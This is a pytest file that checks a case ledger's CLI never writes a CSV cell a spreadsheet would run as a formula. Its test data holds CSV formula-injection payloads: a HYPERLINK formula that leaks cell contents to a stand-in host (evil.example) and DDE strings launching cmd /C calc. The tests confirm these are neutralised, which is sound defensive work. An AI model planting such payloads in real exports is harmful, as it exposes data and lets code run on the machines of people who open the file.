"""CSV formula injection: no cell of any CSV the ledger writes is evaluated by a spreadsheet.

An entry's author (or a reader, through `--user` and `--purpose`, which land in the access
log) writes text starting with `=`, `+`, `-`, `@`, a tab or a carriage return; a reviewer
opens the CSV in a spreadsheet, which runs it as a formula. OWASP's rule: such a cell is
prefixed with a single quote, so it reads as text.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from click.testing import CliRunner

from cli.main import cli
from projections.formats import to_csv

FORMULAS = {
    "summary": '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "actor": "+1+cmd|' /C calc'!A0",
    "agency": "-2+3+cmd|' /C calc'!A0",
    "source": "@SUM(1+1)*cmd|' /C calc'!A0",
    "role": "\t=1+1",
    "on_behalf_of": "\r=1+1",
}
USER = "=cmd|' /C calc'!A0"
PURPOSE = "@SUM(1+1)"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?\d+(\.\d+)?")


def dangerous_cells(text: str) -> list[str]:
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    return [c for c in cells if c.startswith(DANGEROUS) and not NUMBER.fullmatch(c)]


@pytest.fixture(scope="module")
def db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    tmp = tmp_path_factory.mktemp("csv")
    home = {"agency": "Socialtjänsten X"}
    lines = [
        {
            "ref": "open",
            "type": "CaseOpened",
            "occurred": "2019-11-01",
            "child": "c",
            "municipality": "X",
            **home,
        },
        {
            "ref": "report",
            "type": "ConcernReportReceived",
            "occurred": "2019-12-02",
            "reporter_category": "bvc",
            "concern": "=1+1",
            **home,
        },
        {
            "ref": "pa",
            "type": "ProtectionAssessmentMade",
            "occurred": "2019-12-20",
            "report": "@report",
            "immediate_protection_needed": False,
            "basis": ["@report"],
            **FORMULAS,
        },
        {
            "ref": "seen",
            "type": "ObservationRecorded",
            "occurred": "2019-12-01",
            "known": "2019-12-30",
            "observed_by": "BVC",
            "observation": "o",
            **FORMULAS,
        },
        {"ref": "note", "type": "NoteRecorded", "occurred": "2019-12-21", "text": "-1", **FORMULAS},
    ]
    source = tmp / "f.jsonl"
    source.write_text("".join(json.dumps({"case": "F-1", **line}) + "\n" for line in lines))
    path = tmp / "f.db"
    done = CliRunner().invoke(cli, ["--db", str(path), "import", "-q", str(source)])
    assert done.exit_code == 0, done.output
    return path


COMMANDS = [
    ["timeline", "F-1"],
    ["show", "F-1@pa"],
    ["known", "F-1", "--at", "2020"],
    ["decisions", "F-1"],
    ["gaps", "F-1"],
    ["check", "F-1"],
    ["check", "--all"],
    ["cases"],
    ["access-log", "F-1"],
    ["access-log"],
]


@pytest.mark.parametrize("command", COMMANDS, ids=" ".join)
def test_no_csv_cell_starts_a_formula(db: Path, command: list[str]) -> None:
    base = ["--db", str(db), "--user", USER, "--purpose", PURPOSE]
    CliRunner().invoke(cli, [*base, "timeline", "F-1"])  # puts USER and PURPOSE in the log
    done = CliRunner().invoke(cli, [*base, *command, "--format", "csv"])
    assert done.exit_code == 0, done.output
    assert done.stdout.strip()
    assert dangerous_cells(done.stdout) == []


def test_the_text_is_kept_behind_the_quote(db: Path) -> None:
    done = CliRunner().invoke(cli, ["--db", str(db), "show", "F-1@pa", "--format", "csv"])
    (row,) = csv.DictReader(io.StringIO(done.stdout))
    assert row["summary"] == "'" + FORMULAS["summary"]
    assert row["actor"] == "'" + FORMULAS["actor"]


def test_every_dangerous_first_character_is_neutralised() -> None:
    items = [{"text": lead + "1+1", "plain": "a=b", "number": -3} for lead in DANGEROUS]
    lines = to_csv(items).split("\n")  # not splitlines: a cell may hold a carriage return
    assert lines[0] == "text,plain,number"
    # A number the program wrote stays a number; text that merely contains "=" is unchanged.
    assert lines[1:-1] == [f"'{lead}1+1,a=b,-3" for lead in DANGEROUS]
